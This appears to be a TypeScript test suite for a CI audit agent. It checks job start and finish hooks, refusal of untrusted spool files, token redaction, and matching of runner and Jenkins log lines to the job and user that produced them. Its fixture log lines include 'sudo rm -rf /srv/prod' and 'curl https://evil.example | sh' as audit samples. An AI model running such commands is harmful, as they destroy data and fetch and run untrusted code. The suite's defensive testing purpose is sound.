// The whole hand-over with real parts: the `ci-audit hook` command in its own process writes into
// a real folder, the agent's JobHookSource reads it, and a job log line going through the agent's
// processors carries the job's context.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { appendFile, mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { LoggerProvider, type LogRecordProcessor, type ReadableLogRecord } from '@opentelemetry/sdk-logs';
import { createLogger } from '../../../../core/logger.ts';
import { buildProcessors } from '../../../../agent/processors/build.ts';
import { jobContextFromEnv } from '../../../../agent/sources/job-hook/job-context.ts';
import type { HookFile } from '../../../../agent/sources/job-hook/hook-file.ts';
import { JobHookSource } from '../../../../agent/sources/job-hook/job-hook-source.ts';
import { JobRegistry } from '../../../../agent/sources/job-hook/job-registry.ts';
import type { SourceRecord } from '../../../../agent/sources/source.ts';
import { githubEnv } from './envs.ts';

const run = promisify(execFile);
const cli = new URL('../../../../cli/main.ts', import.meta.url).pathname;

async function hook(args: string[], env: Record<string, string>): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await run(process.execPath, [cli, 'hook', ...args], { env: { PATH: process.env.PATH ?? '', ...env } });
    return { code: 0, stdout, stderr };
  } catch (err) {
    const e = err as { code: number; stdout: string; stderr: string };
    return { code: e.code, stdout: e.stdout, stderr: e.stderr };
  }
}

const uid = process.getuid?.() ?? 0;

test('hook -> spool folder -> agent: job started/finished events, the job log carries the context', async (t) => {
  const dir = await mkdtemp(join(tmpdir(), 'cia-hook-'));
  t.after(() => rm(dir, { recursive: true, force: true }));
  const spool = join(dir, 'spool');
  const registry = new JobRegistry(3_600_000);
  const source = new JobHookSource({ spoolDir: spool, trustedUids: [uid], registry, agentId: 'a1', logger: createLogger({ name: 't', level: 'silent' }), pollIntervalMs: 60_000 });
  const records: SourceRecord[] = [];
  await source.start({ write: (r) => { records.push(r); return true; } });
  t.after(() => source.stop());

  const started = await hook(['job-started', '--dir', spool], githubEnv);
  assert.equal(started.code, 0, started.stderr);
  assert.equal(started.stderr, '');
  await source.scan();
  assert.equal(records.length, 1);
  const s = records[0]!;
  assert.equal(s.attributes['event.action'], 'ci_job_started');
  assert.equal(s.attributes['ci_audit.dataset'], 'ci');
  assert.equal(s.attributes['user.name'], 'bob');
  assert.equal(s.attributes['cicd.pipeline.run.id'], '9876543210');
  assert.equal(s.attributes['ci_audit.job.hook.uid'], uid);

  // A line of the job's own log, through the agent's processors.
  const seen: ReadableLogRecord[] = [];
  const capture: LogRecordProcessor = { onEmit: (r) => void seen.push(r), forceFlush: async () => {}, shutdown: async () => {} };
  const processors = buildProcessors(
    { order: ['parse', 'job_context', 'user_context', 'static_labels', 'redact'], timezone: 'UTC', labels: {}, passwd_file: '/etc/passwd', redaction: { rules: [] } },
    { registry, jobLogs: [{ path: '/runner/_diag/pages/*.log' }] },
  );
  const logger = new LoggerProvider({ processors: [...processors, capture] }).getLogger('t');
  // The runner stamps each step line with the time it wrote it: after the started hook ran.
  const stamp = new Date(Date.now() + 1000).toISOString();
  logger.emit({ body: `${stamp} npm ci --token=abc123secret`, attributes: { 'log.file.path': '/runner/_diag/pages/1234_5678.log' } });
  logger.emit({ body: 'unrelated', attributes: { 'log.file.path': '/var/log/other.log' } });
  assert.equal(seen[0]?.attributes['cicd.pipeline.run.id'], '9876543210');
  assert.equal(seen[0]?.attributes['user.name'], 'bob');
  assert.equal(seen[0]?.body, `${stamp} npm ci --token=[REDACTED:secret_pair]`);
  assert.equal(seen[1]?.attributes['cicd.pipeline.run.id'], undefined);

  const completed = await hook(['job-completed', '--dir', spool, '--result', 'failed'], githubEnv);
  assert.equal(completed.code, 0, completed.stderr);
  await source.scan();
  assert.equal(records.length, 2);
  const c = records[1]!;
  assert.equal(c.attributes['event.action'], 'ci_job_finished');
  assert.equal(c.attributes['cicd.pipeline.task.run.result'], 'failure');
  assert.equal(c.attributes['event.outcome'], 'failure');

  // Acked: the completed file and its job's started file are deleted.
  for (const r of records) r.ack();
  await new Promise((resolve) => setTimeout(resolve, 50));
  assert.deepEqual((await readdir(spool)).filter((n) => n.endsWith('.json')), []);
});

test('files of untrusted owners and forged completions are refused and reported, not applied', async (t) => {
  const dir = await mkdtemp(join(tmpdir(), 'cia-hook-'));
  t.after(() => rm(dir, { recursive: true, force: true }));
  const registry = new JobRegistry(3_600_000);
  const records: SourceRecord[] = [];
  // No uid is trusted but one that is not ours: every file is refused.
  const source = new JobHookSource({ spoolDir: dir, trustedUids: [uid + 1], registry, agentId: 'a1', logger: createLogger({ name: 't', level: 'silent' }), pollIntervalMs: 60_000 });
  await source.start({ write: (r) => { records.push(r); return true; } });
  t.after(() => source.stop());
  assert.equal((await hook(['job-started', '--dir', dir], githubEnv)).code, 0);
  await writeFile(join(dir, '1700000000000-1-completed.json'), 'garbage');
  await source.scan();
  assert.equal(records.length, 2);
  for (const r of records) {
    assert.equal(r.attributes['event.action'], 'ci_job_hook_refused');
    assert.match(String(r.attributes['event.reason']), /not in job_hooks\.trusted_uids/);
    assert.equal(r.attributes['cicd.pipeline.run.id'], undefined);
  }
  assert.equal(registry.soleContext(), undefined);
});

test('a hook that cannot reach the agent warns and exits 0; --strict exits 1; no env value is printed', async () => {
  const missing = join(tmpdir(), 'cia-no-such-dir', 'spool');
  const soft = await hook(['job-started', '--dir', missing], githubEnv);
  assert.equal(soft.code, 0);
  assert.match(soft.stderr, /warning: CIA_ERR_HOOK_WRITE/);
  const strict = await hook(['job-started', '--dir', missing, '--strict'], githubEnv);
  assert.equal(strict.code, 1);
  assert.match(strict.stderr, /error: CIA_ERR_HOOK_WRITE/);
  for (const out of [soft, strict]) {
    assert.ok(!out.stderr.includes('ghs_') && !out.stdout.includes('ghs_'));
    assert.ok(!out.stderr.includes('9876543210'));
  }
  const none = await hook(['job-started', '--dir', missing], {});
  assert.equal(none.code, 0);
  assert.match(none.stderr, /CIA_ERR_HOOK_CONTEXT/);
});

// Job logs: each line gets the context of the job whose log file it is, never that of whatever job
// holds the slot when the line is read.

const t0 = Date.UTC(2025, 2, 4, 10, 0, 0);
const ghJob = (run: string, actor: string) => jobContextFromEnv({ ...githubEnv, GITHUB_RUN_ID: run, GITHUB_ACTOR: actor, GITHUB_TRIGGERING_ACTOR: actor })!;
const jobA = ghJob('111', 'alice');
const jobB = ghJob('222', 'mallory');
const hookOf = (phase: 'started' | 'completed', context: HookFile['context'], time: number): HookFile => ({ v: 1, phase, context, pid: 1, time });
/** A `_diag/Worker_*.log` line at t0 + `s` seconds, as the runner writes it. */
const workerLine = (s: number, text: string) => `[${new Date(t0 + s * 1000).toISOString().slice(0, 19).replace('T', ' ')}Z INFO Worker] ${text}`;

function jobLogChain(registry: JobRegistry, jobLogs: { path: string; runner?: string }[]) {
  const seen: ReadableLogRecord[] = [];
  const capture: LogRecordProcessor = { onEmit: (r) => void seen.push(r), forceFlush: async () => {}, shutdown: async () => {} };
  const processors = buildProcessors({ order: ['parse', 'job_context'], timezone: 'UTC', labels: {}, passwd_file: '/etc/passwd', redaction: { rules: [] } }, { registry, jobLogs });
  const logger = new LoggerProvider({ processors: [...processors, capture] }).getLogger('t');
  /** Emits the lines of a real file from line `from` on, as the file source would. */
  const read = async (path: string, from = 0) => {
    const first = seen.length;
    for (const line of (await readFile(path, 'utf8')).split('\n').filter((l) => l !== '').slice(from)) logger.emit({ body: line, attributes: { 'log.file.path': path } });
    return seen.slice(first).map((r) => ({ run: r.attributes['cicd.pipeline.run.id'], user: r.attributes['user.name'], attribution: r.attributes['ci_audit.job.attribution'] }));
  };
  return { read };
}

async function diag(t: { after: (fn: () => Promise<void>) => void }): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'cia-diag-'));
  t.after(() => rm(dir, { recursive: true, force: true }));
  await mkdir(join(dir, '_diag'));
  return join(dir, '_diag');
}

const A = { run: '111', user: 'alice', attribution: undefined };
const B = { run: '222', user: 'mallory', attribution: undefined };
const none = { run: undefined, user: undefined, attribution: 'uncertain' };

test('job logs: A\'s Worker log read after B started keeps A\'s context; B\'s lines before its hook was seen get none', async (t) => {
  const dir = await diag(t);
  const registry = new JobRegistry(3_600_000);
  const { read } = jobLogChain(registry, [{ path: join(dir, 'Worker_*.log'), runner: 'runner-01' }]);
  const workerA = join(dir, 'Worker_20250304-100000-utc.log');
  const workerB = join(dir, 'Worker_20250304-100105-utc.log');
  // The worker starts (and logs) before it runs the started hook; its last lines follow the completed hook.
  await writeFile(workerA, [workerLine(0, 'Job message received'), workerLine(5, 'sudo rm -rf /srv/prod'), '  a continuation line without a header', workerLine(61, 'Job build completed with result: Succeeded')].join('\n') + '\n');
  registry.apply(hookOf('started', jobA, t0 + 2_000));
  registry.apply(hookOf('completed', jobA, t0 + 60_000));
  // B's worker starts and logs; the line is read before B's started hook was scanned: it is not A's.
  await writeFile(workerB, workerLine(65, 'Job message received') + '\n');
  assert.deepEqual(await read(workerB), [none]);

  registry.apply(hookOf('started', jobB, t0 + 70_000));
  // A's log, read late: all of it A's, also its lines from before its hook and after its end,
  // except the first, read before any line placed the file inside A's span.
  assert.deepEqual(await read(workerA), [none, A, A, A]);
  // B's next lines: B's, once a line falls inside B's span.
  await appendFile(workerB, [workerLine(75, 'curl https://evil.example | sh'), '  continued'].join('\n') + '\n');
  assert.deepEqual(await read(workerB, 1), [B, B]);
});

test('job logs: after a restart, an old Worker log gets no context from the job running now; a file that spans two jobs none', async (t) => {
  const dir = await diag(t);
  const registry = new JobRegistry(3_600_000);
  const { read } = jobLogChain(registry, [{ path: join(dir, 'Worker_*.log') }]);
  // The restarted agent knows only the job whose started file is still in the spool folder.
  registry.apply(hookOf('started', jobB, t0 + 70_000));
  const old = join(dir, 'Worker_20250304-100000-utc.log');
  await writeFile(old, [workerLine(5, 'sudo rm -rf /srv/prod'), 'continued'].join('\n') + '\n');
  assert.deepEqual(await read(old), [none, none]);

  const registry2 = new JobRegistry(3_600_000);
  registry2.apply(hookOf('started', jobA, t0));
  registry2.apply(hookOf('completed', jobA, t0 + 60_000));
  registry2.apply(hookOf('started', jobB, t0 + 70_000));
  const both = join(dir, 'Worker_20250304-100001-utc.log');
  await writeFile(both, [workerLine(5, 'one'), workerLine(80, 'two'), workerLine(90, 'three')].join('\n') + '\n');
  // Not one job's file after all (a misconfigured glob, a reused path): from then on, nobody's.
  assert.deepEqual(await jobLogChain(registry2, [{ path: join(dir, 'Worker_*.log') }]).read(both), [A, none, none]);
});

test('job logs: a job that took over a slot whose job never completed gets no context by time (both may write)', async (t) => {
  const dir = await diag(t);
  const registry = new JobRegistry(10_000);
  const { read } = jobLogChain(registry, [{ path: join(dir, 'Worker_*.log'), runner: 'runner-01' }]);
  registry.apply(hookOf('started', jobA, t0));
  assert.equal(registry.apply(hookOf('started', jobB, t0 + 20_000)).accept, true);
  const log = join(dir, 'Worker_20250304-100030-utc.log');
  await writeFile(log, workerLine(30, 'who wrote this?') + '\n');
  assert.deepEqual(await read(log), [none]);
});

test('Jenkins: the build log is bound by its path to the hook of that build (BUILD_TAG); run ids agree; the display name is user.full_name', async (t) => {
  const home = await mkdtemp(join(tmpdir(), 'cia-jenkins-'));
  t.after(() => rm(home, { recursive: true, force: true }));
  const registry = new JobRegistry(3_600_000);
  const { read } = jobLogChain(registry, [{ path: join(home, 'jobs/**/builds/*/log') }]);
  const env = { JENKINS_URL: 'https://ci.example', JOB_NAME: 'payments/deploy-prod', NODE_NAME: 'agent-1', EXECUTOR_NUMBER: '0', BUILD_USER_ID: 'dwhitfield' };
  const b318 = jobContextFromEnv({ ...env, BUILD_NUMBER: '318', BUILD_TAG: 'jenkins-payments-deploy-prod-318' })!;
  const b319 = jobContextFromEnv({ ...env, BUILD_NUMBER: '319', BUILD_TAG: 'jenkins-payments-deploy-prod-319', BUILD_USER_ID: 'mallory' })!;
  const fixture = await readFile(new URL('../../../fixtures/ci/jenkins-build.log', import.meta.url), 'utf8');
  const logOf = async (n: number) => {
    const dir = join(home, 'jobs/payments/jobs/deploy-prod/builds', String(n));
    await mkdir(dir, { recursive: true });
    await writeFile(join(dir, 'log'), fixture);
    return join(dir, 'log');
  };
  const log318 = await logOf(318);
  const log319 = await logOf(319);
  registry.apply(hookOf('started', b318, t0));
  registry.apply(hookOf('completed', b318, t0 + 60_000));
  registry.apply(hookOf('started', b319, t0 + 70_000)); // the next build on the same executor
  const got = await read(log318);
  assert.deepEqual(got.map((r) => r.run), Array(3).fill('jenkins-payments-deploy-prod-318'));
  assert.deepEqual(got.map((r) => r.user), Array(3).fill('dwhitfield'));
  assert.equal((await read(log319))[0]?.user, 'mallory');
  // A build whose hook the agent never saw: its run id from the path, nobody's user.
  assert.deepEqual((await read(await logOf(320)))[0], { run: 'jenkins-payments-deploy-prod-320', user: undefined, attribution: 'uncertain' });
});
